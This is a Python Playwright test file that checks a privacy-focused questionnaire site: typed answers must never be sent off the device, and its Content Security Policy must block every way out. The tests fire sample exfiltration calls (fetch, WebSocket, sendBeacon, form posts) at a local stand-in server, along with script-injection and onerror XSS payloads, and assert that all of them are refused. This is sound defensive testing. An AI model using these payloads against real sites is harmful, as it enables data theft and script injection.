"""No answer leaves the device, and the browser itself sees to it."""

from __future__ import annotations

import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import unquote

import pytest
from playwright.sync_api import Worker, expect

from tests.browser import reference
from tests.browser.conftest import Visitor

SECRET = "Secret evidence 4711"


@pytest.fixture
def stranger() -> Iterator[tuple[str, list[str]]]:
    """Another origin that would take whatever it is sent, and what it was sent."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_OPTIONS = do_GET  # noqa: N815

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/", heard
    server.shutdown()
    server.server_close()


def test_nothing_that_was_typed_is_in_any_request(visitor: Visitor) -> None:
    questionnaire = visitor.questionnaire().open()
    visitor.watch.keep_private(SECRET, "Basic answer name")
    questionnaire.page.get_by_text(reference.words()("about.title")).click()
    questionnaire.field("name").fill("Basic answer name")
    for practice in reference.practices()[:5]:
        questionnaire.choose(practice, "systematic")
    questionnaire.note("basic-training", SECRET)
    questionnaire.show_report()
    questionnaire.download()
    visitor.page.reload()
    questionnaire.ready().show_report()
    targets = [unquote(each.target) for each in visitor.site.requests]
    assert any(target.endswith(".wasm") for target in targets)
    assert not [target for target in targets if "systematic" in target]


# Every way out of a worker, tried from the scorer's own.
WAYS = """async (there) => {
  const tries = {
    fetch: () => fetch(there + 'fetch?answer'),
    opaque: () => fetch(there + 'opaque?answer', { mode: 'no-cors', method: 'POST', body: 'answer' }),
    xhr: () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.open('GET', there + 'xhr'); request.onload = resolve; request.onerror = () => reject(new Error('refused')); request.send()
    }),
    socket: () => new Promise((resolve, reject) => {
      const socket = new WebSocket(there.replace('http', 'ws') + 'socket')
      socket.onopen = resolve; socket.onerror = () => reject(new Error('refused'))
    }),
    events: () => new Promise((resolve, reject) => {
      const source = new EventSource(there + 'events')
      source.onopen = resolve; source.onerror = () => { source.close(); reject(new Error('refused')) }
    }),
    module: () => import(there + 'module.js'),
    code: () => Promise.resolve().then(() => eval('1')),
  }
  const got_out = []
  for (const [name, attempt] of Object.entries(tries)) {
    try { await attempt(); got_out.push(name) } catch { /* refused, as it should be */ }
  }
  return got_out
}"""


def scorer_of(visitor: Visitor) -> Worker:
    return next(worker for worker in visitor.page.workers if worker.url.startswith("blob:"))


def test_the_policy_binds_the_scorer(visitor: Visitor, stranger: tuple[str, list[str]]) -> None:
    there, heard = stranger
    visitor.watch.attempt(there)
    visitor.watch.expect("Content Security Policy", "Refused", "Fetch API cannot load", "violates")
    questionnaire = visitor.questionnaire().open().marked("cx:scorer-ready")
    assert scorer_of(visitor).evaluate(WAYS, there) == []
    # What no policy stops is not there: calls between browsers, and a document to be left or to connect ahead.
    assert scorer_of(visitor).evaluate("[typeof RTCPeerConnection, typeof document, typeof open]") == ["undefined"] * 3
    # From Python too, which is where the answers are.
    questionnaire.choose("basic-training", "ad-hoc")
    questionnaire.show_report()
    assert heard == []


def test_the_page_itself_may_not_reach_another_origin(visitor: Visitor, stranger: tuple[str, list[str]]) -> None:
    there, heard = stranger
    visitor.watch.attempt(there)
    visitor.watch.expect("Content Security Policy", "Refused", "violates", "Fetch API", "status of 404")
    page = visitor.questionnaire().open().page
    assert page.evaluate(WAYS.replace("code: () => Promise.resolve().then(() => eval('1')),", ""), there) == []
    page.evaluate("there => { new Image().src = there + 'image' }", there)
    page.evaluate("there => navigator.sendBeacon(there + 'beacon', 'answer')", there)
    page.evaluate(
        "() => { const script = document.createElement('script'); script.textContent = 'window.owned = 1'; document.body.append(script) }"
    )
    page.evaluate("() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.owned = 1\">') }")
    expect(page.locator("[data-progress]")).to_be_visible()
    assert page.evaluate("window.owned") is None
    with page.expect_console_message(lambda message: "form-action" in message.text):
        page.evaluate("""there => {
          const form = document.createElement('form')
          Object.assign(form, { action: there + 'form', method: 'post', target: '_self' })
          document.body.append(form)
          form.submit()
        }""", there)  # fmt: skip
    assert heard == []


def test_no_file_of_the_site_does_what_no_policy_stops(site_folder: Path) -> None:
    files = [path for path in site_folder.rglob("*") if path.suffix in (".js", ".mjs", ".html")]
    assert len(files) > 100
    for path in files:
        text = path.read_text("utf-8")
        assert "RTCPeerConnection" not in text, path
        assert not re.search(r"""["'`=](preconnect|dns-prefetch)""", text), path


WRITTEN = """async () => [Object.keys(localStorage), Object.keys(sessionStorage), document.cookie, await indexedDB.databases()]"""


def test_a_visit_writes_nothing_and_a_choice_of_colours_is_kept(unscored: Visitor) -> None:
    page = unscored.go("")
    unscored.go("practices/")
    expect(page.locator(".md-header__option label:visible")).to_have_count(1)  # the theme's scripts have run
    assert page.evaluate(WRITTEN) == [[], [], "", []]
    page.locator(".md-header__option label:visible").click()  # light
    page.locator(".md-header__option label:visible").click()  # dark
    assert page.evaluate(WRITTEN) == [["/cx/.__palette"], [], "", []]
    unscored.go("")
    assert page.locator("body").get_attribute("data-md-color-scheme") == "slate"


def test_a_dark_system_has_dark_pages_before_the_theme_s_scripts(visit: Callable[..., Visitor]) -> None:
    visitor = visit(scorer=False, color_scheme="dark")
    visitor.watch.expect("Failed to load resource: net::ERR_FAILED")
    visitor.context.route("**/bundle.*.js", lambda route: route.abort())
    assert visitor.go("").locator("body").get_attribute("data-md-color-scheme") == "slate"


def test_every_page_has_a_policy_and_asks_for_nothing_elsewhere(
    visit: Callable[..., Visitor], site_folder: Path
) -> None:
    for path in site_folder.rglob("*.html"):
        html = path.read_text("utf-8")
        head = html[: html.index("</head>")]
        assert head.count('http-equiv="Content-Security-Policy"') == 1, path
        assert head.count('<meta name="referrer" content="no-referrer">') == 1, path
        policy = head.index("Content-Security-Policy")
        assert all(policy < head.index(tag) for tag in ("<script", "<link") if tag in head), (
            f"{path}: something comes before the policy"
        )
        assert "unsafe-inline" not in head and "'unsafe-eval'" not in head, path
        kinds = ("data-assess data-framework", "data-calculator>", "data-shelf>", "data-together>")
        scores = any(kind in html for kind in kinds)
        assert ("wasm-unsafe-eval" in head) == scores, path


@pytest.mark.slow
def test_no_page_complains_or_reaches_out(unscored: Visitor) -> None:
    """One page of each kind: its folder, and how deep it lies."""
    folder = unscored.site.folder
    pages = sorted(path.parent.relative_to(folder).as_posix() for path in folder.rglob("index.html"))
    kinds = {(page.split("/")[0], page.count("/")): page for page in pages}
    for page in kinds.values():
        unscored.go(f"{page}/".removeprefix("./"))
        expect(unscored.page.locator("h1").first).to_be_visible()
